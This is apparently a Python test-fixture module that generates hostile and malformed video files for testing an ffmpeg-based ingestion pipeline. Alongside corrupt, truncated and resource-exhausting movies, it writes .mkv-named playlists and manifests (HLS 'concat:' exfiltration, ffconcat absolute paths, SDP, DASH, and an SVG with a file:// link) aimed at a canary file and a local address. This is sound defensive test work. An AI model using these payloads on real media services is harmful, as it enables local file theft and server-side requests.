"""Hostile movies, each made when it is asked for, and movies that are odd but sound.

Those that ffmpeg encodes have other bytes when ffmpeg is another, but show the same.
"""

import functools
import random
import struct
import subprocess
import tempfile
from collections.abc import Callable
from pathlib import Path

import imageio_ffmpeg

from hostile.exports import ADDRESS, CANARY_PATH, LFS_POINTER, PORT

SAME_BYTES = ("-fflags", "+bitexact", "-flags", "+bitexact", "-threads", "1")
PATTERN = "testsrc=size=64x48:rate={}:duration={}"
H264 = ("-c:v", "libx264", "-pix_fmt", "yuv420p")
SHORT_GROUPS = (*H264, "-g", "5")
TURNED = (0, 1 << 16, 0, -(1 << 16), 0, 0, 48 << 16, 0, 1 << 30)
"""The matrix in an mp4 file that shows its pictures turned by a right angle."""


def encode(*words: str, ending: str = ".mkv") -> bytes:
    """Have ffmpeg make a movie; words: what there is between `ffmpeg` and the file to write."""
    with tempfile.TemporaryDirectory() as folder:
        movie = Path(folder, f"movie{ending}")
        command = [imageio_ffmpeg.get_ffmpeg_exe(), "-v", "error", "-nostdin"]
        subprocess.run([*command, *words, *SAME_BYTES, movie], check=True)
        return movie.read_bytes()


def pattern(rate: int = 10, duration: float = 1) -> tuple[str, ...]:
    """Words of ffmpeg for moving colours, 64x48 pixels."""
    return ("-f", "lavfi", "-i", PATTERN.format(rate, duration))


@functools.cache
def good() -> bytes:
    """Ten frames in two groups."""
    return encode(*pattern(), *SHORT_GROUPS)


@functools.cache
def longer() -> bytes:
    """A hundred frames in eight clusters, each of which can be read without those behind it."""
    return encode(*pattern(25, 4), *SHORT_GROUPS, "-cluster_time_limit", "500")


def rotten() -> bytes:
    """A movie of which 40 bytes have changed."""
    content, seeded = bytearray(good()), random.Random(2)
    for _ in range(40):
        content[seeded.randrange(len(content) // 3, len(content))] ^= 0xFF
    return bytes(content)


def pixel_bomb() -> bytes:
    """Two frames that need 200 MB each."""
    scene = ("-f", "lavfi", "-i", "color=black:size=8192x8192:rate=1:duration=2")
    return encode(*scene, *H264, "-preset", "ultrafast")


def gap() -> bytes:
    """Two frames, ten hours apart."""
    late = ("-vf", "setpts='if(eq(N,0),0,36000/TB)'", "-fps_mode", "vfr")
    return encode(*pattern(10, 0.2), *late, *SHORT_GROUPS)


def many_frames() -> bytes:
    """20,000 frames of 16x16 pixels."""
    scene = ("-f", "lavfi", "-i", "color=black:size=16x16:rate=1000:duration=20")
    return encode(*scene, *H264, "-g", "9999")


def two_streams() -> bytes:
    """Ten frames, and beside them twenty of another, smaller movie."""
    other = ("-f", "lavfi", "-i", "testsrc2=size=32x32:rate=10:duration=2")
    return encode(*pattern(), *other, "-map", "0", "-map", "1", *SHORT_GROUPS)


def variable_rate() -> bytes:
    """Four frames that are no even times apart from the movie's end."""
    return encode(*pattern(), "-vf", "select='not(mod(n,3))'", "-fps_mode", "vfr", *SHORT_GROUPS)


def rotated() -> bytes:
    """Ten frames that are stored as 64x48 pixels and shown as 48x64."""
    content = bytearray(encode(*pattern(), *SHORT_GROUPS, ending=".mp4"))
    matrix = content.index(b"tkhd") + 44
    content[matrix : matrix + 36] = struct.pack(">9i", *TURNED)
    return bytes(content)


def playlist(address: str, first: str = "#EXT-X-TARGETDURATION:10") -> Callable[[], bytes]:
    """What makes a list of movies of which this is the only one."""
    text = f"#EXTM3U\n{first}\n#EXTINF:10.0,\n{address}\n#EXT-X-ENDLIST\n"
    return text.encode


SDP = (
    f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n"
    f"m=video {PORT - 1} RTP/AVP 96\na=rtpmap:96 H264/90000\n"
)
DASH = (
    '<?xml version="1.0"?>\n<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
    'mediaPresentationDuration="PT10S"><Period><AdaptationSet mimeType="video/mp4">'
    f'<Representation id="1" bandwidth="1"><BaseURL>{ADDRESS}/m16.mp4</BaseURL></Representation>'
    "</AdaptationSet></Period></MPD>\n"
)
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" '
    f'height="48"><image xlink:href="file://{CANARY_PATH}" width="64" height="48"/></svg>\n'
)

TEXTS: dict[str, Callable[[], bytes]] = {
    "m01_zero_byte.mkv": lambda: b"",
    "m02_text.mkv": lambda: b"this is not a movie\n" * 20,
    "m03_random.mkv": lambda: random.Random(1).randbytes(20_000),
    "m07_html_404.mkv": lambda: b"<!DOCTYPE html><html><body>404 Not Found</body></html>\n",
    "m08_git_lfs_pointer.mkv": LFS_POINTER.encode,
    "m10_hls_file.m3u8": playlist(f"file://{CANARY_PATH}"),
    "m10_hls_file.mkv": playlist(f"file://{CANARY_PATH}"),
    "m11_hls_http.m3u8": playlist(f"{ADDRESS}/m11.ts"),
    "m11_hls_http.mkv": playlist(f"{ADDRESS}/m11.ts"),
    "m12_hls_concat_exfil.mkv": playlist(
        f"concat:{ADDRESS}/m12|file://{CANARY_PATH}", "#EXT-X-MEDIA-SEQUENCE:0"
    ),
    "m13_ffconcat_sibling.mkv": "ffconcat version 1.0\nfile m00_good_10frames.mkv\n".encode,
    "m14_ffconcat_absolute.mkv": f"ffconcat version 1.0\nfile '{CANARY_PATH}'\n".encode,
    "m15_sdp_network.mkv": SDP.encode,
    "m16_dash_mpd.mkv": DASH.encode,
    "m17_xspf_svg.mkv": SVG.encode,
}
"""What is no movie, and the same bytes everywhere."""

ENCODED: dict[str, Callable[[], bytes]] = {
    "m00_good_10frames.mkv": good,
    "m04_truncated.mkv": lambda: good()[: len(good()) * 6 // 10],
    "m05_header_only.mkv": lambda: good()[:600],
    "m06_bit_rot.mkv": rotten,
    "m09_full_100frames.mkv": longer,
    "m09_truncated_silent.mkv": lambda: longer()[: len(longer()) * 3 // 4],
    "m20_pixel_bomb_8192.mkv": pixel_bomb,
    "m21_timestamp_gap_10h.mkv": gap,
    "m22_20000_frames.mkv": many_frames,
    "m30_audio_only.mkv": lambda: encode(
        "-f", "lavfi", "-i", "sine=duration=1", "-c:a", "libvorbis"
    ),
    "m31_two_video_streams.mkv": two_streams,
    "m32_variable_rate.mkv": variable_rate,
    "m33_rotated.mp4": rotated,
    "m34_odd_size.mkv": lambda: encode(
        "-f", "lavfi", "-i", "testsrc=size=63x47:rate=10:duration=1", "-c:v", "ffv1"
    ),
    "m35_mp4_named.mkv": lambda: encode(
        *pattern(), *H264, "-movflags", "frag_keyframe", ending=".mp4"
    ),
    "m36_png_named.mkv": lambda: encode(*pattern(), "-frames:v", "1", ending=".png"),
}
"""What ffmpeg encodes."""

FILES = {**TEXTS, **ENCODED}
"""Name -> what makes the content."""
